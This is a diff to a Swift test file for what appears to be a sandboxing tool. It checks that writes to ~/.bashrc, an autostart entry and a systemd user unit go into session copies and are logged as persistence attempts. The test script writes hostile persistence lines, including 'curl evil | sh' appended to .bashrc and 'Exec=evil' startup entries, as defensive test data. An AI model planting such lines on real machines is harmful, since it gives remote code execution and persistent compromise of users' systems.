@@ -30,24 +30,50 @@ final class SecretsTests: XCTestCase {
         XCTAssertFalse(listing.output.contains("PLANTED-KEYRING"), listing.output)
     }
 
-    /// The real home's persistence targets (a virtual home's own copies are captured instead: PersistenceTests).
-    func testPersistenceTargetsCannotBeWritten() throws {
+    /// The real home's persistence targets are session copies: the write succeeds into the copy, is a
+    /// `persistence_attempt` with what was written, and the real file is untouched (a virtual home's own
+    /// copies are captured and put back instead: PersistenceTests).
+    func testPersistenceTargetsInTheRealHomeAreCapturedCopies() throws {
         let home = try sb.makeHome()
         let before = home.snapshot()
         for mode in ["host-ro", "host"] {
-            let r = try sb.ww(["--home", mode, "--", "sh", "-c", """
+            let log = sb.logPath()
+            let r = try sb.ww(["--log", log, "--home", mode, "--", "sh", "-c", """
                 echo 'curl evil | sh' >> ~/.bashrc && echo BASHRC-WRITTEN
                 mkdir -p ~/.config/autostart 2>/dev/null
-                printf '[Desktop Entry]\\nExec=evil\\n' > ~/.config/autostart/x.desktop && echo AUTOSTART-WRITTEN
-                mkdir -p ~/.config/systemd/user 2>/dev/null; echo x > ~/.config/systemd/user/evil.service && echo UNIT-WRITTEN
+                printf '[Desktop Entry]\\nExec=evil --autostart\\n' > ~/.config/autostart/x.desktop && echo AUTOSTART-WRITTEN
+                mkdir -p ~/.config/systemd/user 2>/dev/null; printf '[Service]\\nExecStart=evil\\n' > ~/.config/systemd/user/evil.service && echo UNIT-WRITTEN
                 exit 0
                 """], home: home)
             XCTAssertEqual(r.status, 0, "\(mode): \(r.output)")
-            XCTAssertFalse(r.stdout.contains("BASHRC-WRITTEN"), "\(mode): \(r.output)")
-            XCTAssertFalse(r.stdout.contains("AUTOSTART-WRITTEN"), "\(mode): \(r.output)")
-            XCTAssertFalse(r.stdout.contains("UNIT-WRITTEN"), "\(mode): \(r.output)")
+            XCTAssertTrue(r.stdout.contains("BASHRC-WRITTEN"), "\(mode): the session copy is writable: \(r.output)")
+            XCTAssertTrue(r.stdout.contains("AUTOSTART-WRITTEN"), "\(mode): \(r.output)")
+            let attempts = sb.events(log).filter { $0["kind"] as? String == "persistence_attempt" }
+            func event(_ rel: String) -> [String: Any]? { attempts.first { $0["target"] as? String == home.path + "/" + rel } }
+            let bashrc = try XCTUnwrap(event(".bashrc"), "\(mode): \(attempts)")
+            XCTAssertEqual(bashrc["command"] as? String, "curl evil | sh", "\(mode)")
+            XCTAssertEqual(bashrc["removed"] as? Bool, true, "\(mode)")
+            XCTAssertEqual(event(".config/autostart/x.desktop")?["command"] as? String, "Exec=evil --autostart", "\(mode): \(attempts)")
+            let capture = try XCTUnwrap(bashrc["capture"] as? String)
+            let shown = try sb.ww(["events", "--capture", capture], home: home)
+            XCTAssertEqual(shown.stdout, FakeHome.bashrc + "curl evil | sh\n", "\(mode): \(shown.output)")
+            if mode == "host" {
+                // A missing folder target in a writable home is an empty session copy too.
+                XCTAssertTrue(r.stdout.contains("UNIT-WRITTEN"), r.output)
+                XCTAssertEqual(event(".config/systemd/user/evil.service")?["command"] as? String, "ExecStart=evil", "\(attempts)")
+                XCTAssertEqual(attempts.count, 3, "\(attempts)")
+            } else {
+                // A read-only home: the missing folder cannot be created at all (EROFS, not seen).
+                XCTAssertFalse(r.stdout.contains("UNIT-WRITTEN"), r.output)
+                XCTAssertEqual(attempts.count, 2, "\(attempts)")
+            }
+            XCTAssertTrue(r.stderr.contains("persistence attempt"), r.stderr)
+            // The next session sees the real files again.
+            let again = try sb.ww(["--home", mode, "--", "sh", "-c", "cat ~/.bashrc; ls ~/.config/autostart"], home: home)
+            XCTAssertEqual(again.stdout, FakeHome.bashrc, "\(mode): \(again.output)")
         }
         XCTAssertEqual(home.snapshot(), before, "the real files changed")
+        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: home.autostart), [])
         XCTAssertFalse(FileManager.default.fileExists(atPath: home.path + "/.config/systemd/user/evil.service"))
     }
 
